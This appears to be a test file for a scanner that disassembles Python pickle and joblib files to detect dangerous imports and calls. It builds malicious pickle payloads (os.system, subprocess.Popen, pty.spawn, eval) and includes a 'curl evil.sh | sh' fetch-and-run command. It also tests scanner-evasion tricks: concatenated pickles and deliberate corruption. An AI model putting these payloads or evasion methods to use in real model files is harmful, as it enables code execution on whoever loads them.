import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { bufferSource } from '../../../src/core/byte-source.js';
import { DEFAULT_LIMITS, resolveLimits } from '../../../src/core/limits.js';
import { disassemblePickle, type PickleAnalysis } from '../../../src/readers/pickle/index.js';
import { buildPickle, payloadPickle } from '../../builders/pickle.js';

const analyse = (bytes: Buffer, limits = DEFAULT_LIMITS, expectedPickles = 1): PickleAnalysis =>
  disassemblePickle(bufferSource(bytes), { limits, expectedPickles });
const imports = (a: PickleAnalysis): string[] => a.imports.map((i) => `${i.module}.${i.name}`);
const calls = (a: PickleAnalysis): string[] => a.calls.map((c) => `${c.opcode}:${c.callee ? `${c.callee.module}.${c.callee.name}` : '?'}`);

describe('pickle disassembler: imports and calls', () => {
  const cases: { name: string; bytes: Buffer; imports: string[]; calls: string[] }[] = [
    {
      name: 'GLOBAL + REDUCE (protocol 2)',
      bytes: payloadPickle('os', 'system', 'id'),
      imports: ['os.system'],
      calls: ['REDUCE:os.system'],
    },
    {
      name: 'STACK_GLOBAL with module and name from SHORT_BINUNICODE + MEMOIZE (protocol 4)',
      bytes: buildPickle().proto(4).callStackGlobal('subprocess', 'Popen', 'id').stop().bytes(),
      imports: ['subprocess.Popen'],
      calls: ['REDUCE:subprocess.Popen'],
    },
    {
      name: 'STACK_GLOBAL with module and name fetched back from the memo (BINGET)',
      bytes: buildPickle()
        .proto(4)
        .unicode('builtins').binput(1).pop()
        .unicode('eval').binput(2).pop()
        .binget(1).binget(2).stackGlobal()
        .unicode('1+1').tuple1().reduce().stop().bytes(),
      imports: ['builtins.eval'],
      calls: ['REDUCE:builtins.eval'],
    },
    {
      name: 'STACK_GLOBAL fed by SHORT_BINSTRING (decoded to str by Python 3)',
      bytes: buildPickle().proto(4).shortBinstring('posix').shortBinstring('system').stackGlobal().shortBinstring('id').tuple1().reduce().stop().bytes(),
      imports: ['posix.system'],
      calls: ['REDUCE:posix.system'],
    },
    {
      name: 'protocol 0 INST (import and call in one opcode)',
      bytes: buildPickle().mark().string('id').inst('os', 'system').stop().bytes(),
      imports: ['os.system'],
      calls: ['INST:os.system'],
    },
    {
      name: 'OBJ with the class as first item after MARK',
      bytes: buildPickle().proto(1).mark().global('subprocess', 'Popen').binunicode('id').op('OBJ').stop().bytes(),
      imports: ['subprocess.Popen'],
      calls: ['OBJ:subprocess.Popen'],
    },
    {
      name: 'NEWOBJ (cls.__new__(cls, *args))',
      bytes: buildPickle().proto(2).global('pty', 'spawn').binunicode('sh').tuple1().newobj().stop().bytes(),
      imports: ['pty.spawn'],
      calls: ['NEWOBJ:pty.spawn'],
    },
    {
      name: 'NEWOBJ_EX',
      bytes: buildPickle().proto(4).global('code', 'InteractiveConsole').emptyTuple().emptyDict().newobjEx().stop().bytes(),
      imports: ['code.InteractiveConsole'],
      calls: ['NEWOBJ_EX:code.InteractiveConsole'],
    },
    {
      name: 'BUILD on an object made from a global',
      bytes: buildPickle().proto(2).global('evil', 'Thing').emptyTuple().newobj().emptyDict().build().stop().bytes(),
      imports: ['evil.Thing'],
      calls: ['NEWOBJ:evil.Thing', 'BUILD:evil.Thing'],
    },
    {
      name: 'getattr(__import__("os"), "system") chain resolves to os.system',
      bytes: buildPickle()
        .proto(2)
        .global('builtins', 'getattr')
        .global('builtins', '__import__').binunicode('os').tuple1().reduce()
        .binunicode('system').tuple2().reduce()
        .binunicode('id').tuple1().reduce()
        .stop().bytes(),
      imports: ['builtins.getattr', 'builtins.__import__', 'os.system'],
      calls: ['REDUCE:builtins.__import__', 'REDUCE:builtins.getattr', 'REDUCE:os.system'],
    },
    {
      name: 'FRAME opcodes are transparent',
      bytes: buildPickle().proto(4).frame(20).callStackGlobal('os', 'system', 'id').stop().bytes(),
      imports: ['os.system'],
      calls: ['REDUCE:os.system'],
    },
  ];
  it.each(cases)('$name', ({ bytes, imports: expectedImports, calls: expectedCalls }) => {
    const a = analyse(bytes);
    expect(a.issues).toEqual([]);
    expect(a.completePickles).toBe(1);
    expect(imports(a)).toEqual(expectedImports);
    expect(calls(a)).toEqual(expectedCalls);
  });

  it('records the first string arguments of a call as evidence', () => {
    const a = analyse(payloadPickle('os', 'system', 'curl evil.sh | sh'));
    expect(a.calls[0]?.args).toEqual(['curl evil.sh | sh']);
  });

  it('EXT1/EXT2/EXT4 imports are unresolvable by construction and marked dynamic', () => {
    const a = analyse(buildPickle().proto(2).ext1(1).emptyTuple().reduce().pop().ext2(300).pop().ext4(70000).stop().bytes());
    expect(a.imports.map((i) => i.dynamic)).toEqual([true, true, true]);
    expect(a.imports.map((i) => i.opcode)).toEqual(['EXT1', 'EXT2', 'EXT4']);
  });

  it('STACK_GLOBAL with a computed module name is dynamic, not silently resolved', () => {
    const bytes = buildPickle().proto(4).global('builtins', 'str').unicode('os').tuple1().reduce().unicode('system').stackGlobal().stop().bytes();
    const a = analyse(bytes);
    const stackGlobal = a.imports.find((i) => i.opcode === 'STACK_GLOBAL');
    expect(stackGlobal?.dynamic).toBe(true);
  });

  it('counts repeats instead of storing every occurrence', () => {
    const b = buildPickle().proto(2).mark();
    for (let i = 0; i < 1000; i++) b.global('collections', 'OrderedDict');
    const a = analyse(b.op('LIST').stop().bytes());
    expect(a.imports).toHaveLength(1);
    expect(a.imports[0]?.count).toBe(1000);
  });
});

describe('pickle disassembler: streams of several pickles', () => {
  it('scans every concatenated pickle, not only the first (modelscan first-pickle gap)', () => {
    const bytes = Buffer.concat([
      buildPickle().proto(2).int(1).stop().bytes(),
      buildPickle().proto(2).emptyDict().stop().bytes(),
      payloadPickle('os', 'system', 'id'),
    ]);
    const a = analyse(bytes, DEFAULT_LIMITS, 5);
    expect(a.completePickles).toBe(3);
    expect(imports(a)).toEqual(['os.system']);
    expect(a.imports[0]?.pickleIndex).toBe(2);
  });

  it('treats import-free bytes after the expected pickles as trailing data, not corruption', () => {
    const bytes = Buffer.concat([buildPickle().proto(2).emptyDict().stop().bytes(), Buffer.from([0x0c, 0, 0, 0, 0x80, 0x02, 0xff, 1, 2, 3])]);
    const a = analyse(bytes);
    expect(a.issues).toEqual([]);
    expect(a.trailingBytes).toBe(10);
  });
});

describe('pickle disassembler: corruption and recovery (nullifAI)', () => {
  it('keeps the payload before a deliberate break and reports the break', () => {
    const bytes = Buffer.concat([buildPickle().proto(2).callGlobal('os', 'system', 'id').bytes(), Buffer.from([0xff, 0xfe])]);
    const a = analyse(bytes);
    expect(calls(a)).toEqual(['REDUCE:os.system']);
    expect(a.issues[0]?.kind).toBe('invalid-opcode');
    expect(a.issues[0]?.offset).toBe(bytes.length - 2);
  });

  it('resynchronises after a corrupt opcode and finds a payload further on', () => {
    const bytes = Buffer.concat([
      buildPickle().proto(2).emptyDict().bytes(),
      Buffer.from([0xff, 0xaa, 0xbb]),
      payloadPickle('subprocess', 'check_output', 'id'),
    ]);
    const a = analyse(bytes);
    expect(a.issues.map((i) => i.kind)).toEqual(['invalid-opcode']);
    expect(imports(a)).toEqual(['subprocess.check_output']);
    expect(a.imports[0]?.afterCorruption).toBe(true);
  });

  it('reports a stack underflow the way CPython would raise it', () => {
    const a = analyse(buildPickle().proto(2).reduce().stop().bytes());
    expect(a.issues[0]?.kind).toBe('stack-underflow');
  });

  it('reports a missing memo key', () => {
    const a = analyse(buildPickle().proto(2).binget(7).stop().bytes());
    expect(a.issues[0]?.kind).toBe('memo-missing');
  });

  it('reports a protocol above 5', () => {
    const a = analyse(Buffer.from([0x80, 0x06, 0x4e, 0x2e]));
    expect(a.issues[0]?.kind).toBe('bad-protocol');
  });

  it('reports a stream cut inside an operand as truncated', () => {
    const full = payloadPickle('os', 'system', 'id');
    const a = analyse(full.subarray(0, 8));
    expect(a.issues[0]?.kind).toBe('truncated');
    expect(a.completePickles).toBe(0);
  });
});

describe('pickle disassembler: payloads are skipped, not buffered', () => {
  it('skips a large BINBYTES payload by position', () => {
    const bytes = buildPickle().proto(3).binbytes(8 * 1024 * 1024).stop().bytes();
    const a = analyse(bytes);
    expect(a.issues).toEqual([]);
    expect(a.opcodes).toBe(3);
  });

  it('a string longer than maxStringLength is skipped and cannot name a global', () => {
    const limits = resolveLimits({ maxStringLength: 16 });
    const bytes = buildPickle().proto(4).unicode('x'.repeat(100)).unicode('system').stackGlobal().stop().bytes();
    const a = analyse(bytes, limits);
    expect(a.imports[0]?.dynamic).toBe(true);
  });
});

describe('pickle disassembler: limits', () => {
  it('stops at maxOpcodes with a limit issue', () => {
    const b = buildPickle().proto(2).mark();
    for (let i = 0; i < 100; i++) b.int(i);
    const a = analyse(b.op('LIST').stop().bytes(), resolveLimits({ maxOpcodes: 50 }));
    expect(a.issues.at(-1)?.limit).toBe('maxOpcodes');
  });

  it('stops at maxStackDepth', () => {
    const b = buildPickle().proto(2);
    for (let i = 0; i < 100; i++) b.int(i);
    const a = analyse(b.stop().bytes(), resolveLimits({ maxStackDepth: 10 }));
    expect(a.issues.at(-1)?.limit).toBe('maxStackDepth');
  });

  it('stops at maxMemo', () => {
    const b = buildPickle().proto(4);
    for (let i = 0; i < 100; i++) b.int(i).memoize();
    const a = analyse(b.stop().bytes(), resolveLimits({ maxMemo: 10 }));
    expect(a.issues.at(-1)?.limit).toBe('maxMemo');
  });
});

describe('pickle disassembler: real CPython pickles', () => {
  const dir = new URL('../../fixtures/real/', import.meta.url);
  it.each([0, 1, 2, 3, 4, 5])('benign protocol %i pickle parses cleanly', (proto) => {
    const a = analyse(readFileSync(new URL(`plain-protocol${proto}.pkl`, dir)));
    expect(a.issues).toEqual([]);
    expect(a.completePickles).toBe(1);
    expect(a.protocol).toBe(proto < 2 ? 0 : proto);
  });

  it.each([
    ['malicious/os-system-p2.pkl', 'posix.system'],
    ['malicious/os-system-p4.pkl', 'posix.system'],
    ['malicious/builtins-exec-p0.pkl', '__builtin__.exec'],
    ['malicious/os-popen-p3.pkl', 'os.popen'],
  ])('%s calls %s', (file, global) => {
    const a = analyse(readFileSync(new URL(file, dir)));
    expect(calls(a)).toContain(`REDUCE:${global}`);
  });

  it('joblib: raw array bytes after NumpyArrayWrapper are skipped exactly and the payload after them is found', () => {
    const a = analyse(readFileSync(new URL('malicious/joblib-payload.joblib', dir)));
    expect(a.issues).toEqual([]);
    expect(calls(a)).toContain('REDUCE:posix.system');
  });

  it('joblib: a benign uncompressed joblib file parses without issues', () => {
    const a = analyse(readFileSync(new URL('sklearn-like.joblib', dir)));
    expect(a.issues).toEqual([]);
    expect(imports(a)).toContain('joblib.numpy_pickle.NumpyArrayWrapper');
  });
});
